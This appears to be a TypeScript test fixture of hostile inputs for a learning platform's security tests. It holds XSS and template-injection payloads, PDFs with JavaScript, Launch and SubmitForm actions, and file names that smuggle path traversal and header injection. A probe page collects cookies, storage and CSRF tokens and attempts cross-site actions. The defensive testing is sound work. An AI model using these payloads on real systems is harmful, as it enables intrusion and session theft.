import { recording } from './recording';

/*
 * What a hostile author would send. Everything that can run calls ran(…), which the trap of the journey listens for; nothing here
 * does harm, and the foreign host does not exist.
 */
const ELSEWHERE = 'taken.invalid';
const encoded = (text: string): string => Buffer.from(text).toString('base64');

/** Markup: as a text of a lesson it is to be refused or to stand there as words. */
export const MARKUP: readonly string[] = [
  "<script>ran('script')</script>",
  "<ScRiPt >ran('mixed')</sCrIpT>",
  "<img src=x onerror=ran('image')>",
  "<svg onload=ran('svg')></svg>",
  "<svg/onload=ran('slash')>",
  "<svg><animate onbegin=ran('animate') attributeName=x dur=1s></svg>",
  "<details open ontoggle=ran('details')>x</details>",
  "<input autofocus onfocus=ran('focus')>",
  "<video><source onerror=ran('source')></video>",
  "<iframe srcdoc=\"<script>parent.ran('frame')</script>\"></iframe>",
  "<math><mtext><img src=x onerror=ran('math')></mtext></math>",
  "<a href=\"javascript:ran('anchor')\">x</a>",
  "<!--><img src=x onerror=ran('comment')>-->",
  `<meta http-equiv=refresh content="0;url=http://${ELSEWHERE}/meta">`,
  `<link rel=stylesheet href=http://${ELSEWHERE}/sheet>`,
  "<img\"src=x\"onerror=ran('quotes')>",
  "<x:y onmouseover=ran('name')>x",
  "&lt;script&gt;ran('entity')&lt;/script&gt;",
];

/** Marks of the agreed subset turned to ill, and words that a template would run. */
export const MARKS: readonly string[] = [
  "[点我](javascript:ran('link'))",
  "[点我](JaVaScRiPt:ran('link-mixed'))",
  '[点我](java&#115;cript:ran(1))',
  `[点我](data:text/html;base64,${encoded("<script>ran('data')</script>")})`,
  '[点我](vbscript:ran(1))',
  `[点我](//${ELSEWHERE}/two-slashes)`,
  `[点我](/\\${ELSEWHERE}/back-slash)`,
  "[点我](https://taken.invalid\"onmouseover=\"ran('quote'))",
  "**[点我](javascript:ran('strong'))**",
  "> > - [点我](javascript:ran('nested'))",
  `![图](https://${ELSEWHERE}/picture.png)`,
  `![图](data:image/svg+xml;base64,${encoded("<svg xmlns='http://www.w3.org/2000/svg' onload=\"ran('picture')\"/>")})`,
  '| 甲 | 乙 |\n| --- | --- |\n| {{7*7}} | [点我](javascript:ran(1)) |',
  "{{constructor.constructor('ran(1)')()}}",
  "{{ $emit.constructor('ran(1)')() }}",
  "${ran('template')} <%= ran('server') %> #{ran('hash')}",
  "<javascript:ran('auto')>",
  "[甲]: javascript:ran('reference')",
  "\\[点我](javascript:ran('escaped'))",
  "javascript:ran('bare')",
];

/** Words for a field that takes any: a title, an answer, a name of a law. */
export const WORDS = "\"><img src=x onerror=ran('field')><svg onload=ran('field')>{{constructor.constructor('ran(1)')()}}";
/** What of them shows that nobody has read them as a template. */
export const MUSTACHE = "{{constructor.constructor('ran(1)')()}}";

/** A PDF of one page. */
const pdf = (catalogue: string, rest = ''): Buffer => Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${catalogue}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>endobj\n${rest}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1');
const html = (id: string): string => `<!doctype html><script>ran('${id}')</script><img src=x onerror="ran('${id}')">`;
const svg = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"ran('drawing')\"><script>ran('drawing')</script></svg>";

/** A file as it is sent. */
export interface Sent {
  readonly name: string;
  readonly bytes: Buffer;
}

/** A PDF that runs as soon as it is opened, where somebody lets it. */
export const RUNNING_PDF: Sent = { name: '打开即运行.pdf', bytes: pdf("/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\))>>") };

/** Files that nobody may ever be shown. */
export const REFUSED: readonly Sent[] = [
  { name: '页面.html', bytes: Buffer.from(html('html')) },
  { name: '图.svg', bytes: Buffer.from(svg) },
  { name: '课件.zip', bytes: Buffer.from('504b0304', 'hex') },
  { name: '课件.h5p', bytes: Buffer.from('504b0304', 'hex') },
  { name: '页面.pdf', bytes: Buffer.from(html('disguised')) },
  { name: '图.png', bytes: Buffer.from(svg) },
  RUNNING_PDF,
  { name: '转义.pdf', bytes: pdf("/OpenAction<</S/J#61vaScript/JS(app.alert\\('ran'\\))>>") },
  { name: '启动程序.pdf', bytes: pdf('/OpenAction<</S/Launch/F(cmd.exe)>>') },
  { name: '送出表单.pdf', bytes: pdf(`/OpenAction<</S/SubmitForm/F(http://${ELSEWHERE}/form)>>`) },
  { name: '附件.pdf', bytes: pdf('/Names<</EmbeddedFiles 4 0 R>>') },
  { name: '字幕.vtt', bytes: Buffer.from(`WEBVTT\n\n${html('captions')}`) },
];

/** Files that are what they say and hold something hostile beside it, under hostile names. */
export const KEPT = {
  pdf: { name: "\"><img src=x onerror=ran('name')>{{constructor.constructor('ran(1)')()}}.pdf", bytes: pdf('', `%${html('polyglot')}`) },
  taker: { name: '带走读者.pdf', bytes: pdf(`/OpenAction<</S/URI/URI(http://${ELSEWHERE}/away)>>`) },
  sound: { name: "javascript:ran('name')\r\nSet-Cookie: fadu=1;x=\"y\".wav", bytes: Buffer.concat([recording(2), Buffer.from(html('tail'))]) },
  song: { name: '..\\..\\..\u202e\u0000三pm.mp3', bytes: Buffer.from(`ID3${html('song')}`) },
  captions: { name: "<svg onload=ran('vtt')>.vtt", bytes: Buffer.from(`WEBVTT\n\nSTYLE\n::cue { background: url(http://${ELSEWHERE}/cue) }\n\n00:00.000 --> 00:01.500\n<b onclick=ran('cue')>先亮证</b><img src=x onerror=ran('cue')>\n`) },
} satisfies Record<string, Sent>;

/**
 * A page that takes what it can get hold of and tells it to whoever listens: cookies, the page around it, what the browser keeps,
 * the session of the application, and whether it can act with it, knowingly or blindly.
 * @param application address of the product
 * @param act what it tries to do there
 */
export const probe = (application: string, act: string): string => `<!doctype html><meta charset="utf-8"><title>probe</title><script>
(async () => {
  const get = async (take) => { try { return String(await take()); } catch { return ''; } };
  const post = { method: 'POST', credentials: 'include', body: '{}' };
  const cookie = await get(() => document.cookie);
  const around = await get(() => parent.document.documentElement.outerHTML.slice(0, 40));
  const kept = await get(() => localStorage.getItem('probe') ?? '');
  const session = await get(async () => (await (await fetch('${application}/api/session', { credentials: 'include' })).json()).csrf);
  await get(() => fetch('${application}${act}', { ...post, mode: 'no-cors' }));
  const acted = await get(async () => (await fetch('${application}${act}', { ...post, headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': session, 'Idempotency-Key': crypto.randomUUID() } })).status);
  await probed({ cookie, around, kept, session, acted });
})();
</script>`;

/** What a probe got hold of; empty where it got nothing. */
export type Loot = Record<'cookie' | 'around' | 'kept' | 'session' | 'acted', string>;
